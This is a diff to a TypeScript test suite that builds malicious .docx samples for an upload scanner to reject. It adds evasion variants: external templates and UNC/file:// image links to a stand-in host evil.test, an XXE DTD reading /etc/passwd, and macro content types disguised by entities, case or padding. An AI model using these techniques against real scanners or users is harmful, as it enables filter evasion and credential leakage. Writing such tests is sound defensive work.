@@ -122,6 +122,7 @@ async function active(): Promise<Fake[]> {
     { what: "dtd", name: "a.docx", bytes: office("docx", [{ name: "word/x.xml", body: '<!DOCTYPE x SYSTEM "file:///etc/passwd"><x/>' }]) },
     { what: "wide dtd", name: "a.docx", bytes: office("docx", [{ name: "word/x.xml", body: Buffer.from('\ufeff<!DOCTYPE x [<!ENTITY a "b">]><x/>', "utf16le") }]) },
     { what: "template from elsewhere", name: "a.docx", bytes: office("docx", [{ name: "word/_rels/settings.xml.rels", body: '<Relationships><Relationship Type="http://x/attachedTemplate" Target="http://evil.test/x.dotm" TargetMode="External"/></Relationships>' }]) },
+    ...hidden(),
     { what: "zip slip", name: "a.docx", bytes: office("docx", [evil]) },
     { what: "absolute", name: "a.docx", bytes: office("docx", [{ ...evil, name: "/etc/passwd" }]) },
     { what: "windows path", name: "a.docx", bytes: office("docx", [{ ...evil, name: "..\\evil.xml" }]) },
@@ -172,6 +173,31 @@ function fetching(): Fake[] {
     say("a macro type behind 4 MiB", sample.zip([{ name: "[Content_Types].xml", body: Buffer.concat([Buffer.from(types?.body ?? ""), padding(long), Buffer.from("macroEnabled")]) }, ...sample.officeEntries("docx").slice(1)])),
     say("a macro type with letters as numbers", sample.zip([{ name: "[Content_Types].xml", body: `${String(types?.body)}<x t="macroEn&#97;bled"/>` }, ...sample.officeEntries("docx").slice(1)])),
     say("a macro type under small letters", sample.zip([{ name: "[content_types].xml", body: `${String(types?.body)}<x t="macroEnabled"/>` }, ...(main ? [main] : [])])),
+  ];
+}
+
+/** The same told in other ways of writing XML, which Office reads as well. */
+function hidden(): Fake[] {
+  const { office, zip, officeEntries } = sample;
+  const template = 'Type="http://x/attachedTemplate" Target="http://evil.test/x.dotm"';
+  const rels = (text: Buffer | string) => office("docx", [{ name: "word/_rels/settings.xml.rels", body: text }]);
+  const one = (attributes: string) => `<Relationships><Relationship ${attributes}/></Relationships>`;
+  const dtd = '<?xml version="1.0"?><!DOCTYPE x SYSTEM "file:///etc/passwd"><x/>';
+  const padding = randomBytes(3_400_000).toString("base64");
+  const [types, ...others] = officeEntries("docx");
+  return [
+    { what: "template, with a prefix", name: "a.docx", bytes: rels(`<r:Relationships xmlns:r="x"><r:Relationship ${template} TargetMode="External"/></r:Relationships>`) },
+    { what: "template, wide", name: "a.docx", bytes: rels(Buffer.from(`\ufeff${one(`${template} TargetMode="External"`)}`, "utf16le")) },
+    { what: "template, in numbers", name: "a.docx", bytes: rels(one(`${template} TargetMode="Ext&#101;rnal"`)) },
+    { what: "template, after much else", name: "a.docx", bytes: rels(`<!--${padding}-->${one(`${template} TargetMode="External"`)}`) },
+    { what: "picture of another computer", name: "a.docx", bytes: rels(one('Type="http://x/image" Target="\\\\evil.test\\x\\a.png" TargetMode="External"')) },
+    { what: "picture of another computer, as a file", name: "a.docx", bytes: rels(one('Type="http://x/image" Target="file://evil.test/x/a.png" TargetMode="External"')) },
+    { what: "picture of another computer, with five strokes", name: "a.docx", bytes: rels(one('Type="http://x/image" Target="file://///evil.test/x/a.png" TargetMode="External"')) },
+    { what: "macros, in numbers", name: "a.docx", bytes: zip([{ name: "[Content_Types].xml", body: String(types?.body).replace("</Types>", '<Override ContentType="application/vnd.ms-office.vba&#80;roject"/></Types>') }, ...others]) },
+    { what: "macros, in small letters", name: "a.docx", bytes: zip([{ name: "[content_types].xml", body: String(types?.body).replace("</Types>", '<Override ContentType="application/vnd.ms-office.vbaProject"/></Types>') }, ...others]) },
+    { what: "dtd in a part of another name", name: "a.docx", bytes: office("docx", [{ name: "word/settings.dat", body: dtd }]) },
+    { what: "dtd after much else", name: "a.docx", bytes: office("docx", [{ name: "word/x.xml", body: `<!--${padding}-->${dtd}` }]) },
+    { what: "pdf within", name: "a.docx", bytes: zip([{ name: "%PDF-1.7.txt", body: "x" }, ...officeEntries("docx")]) },
   ];
 }
 
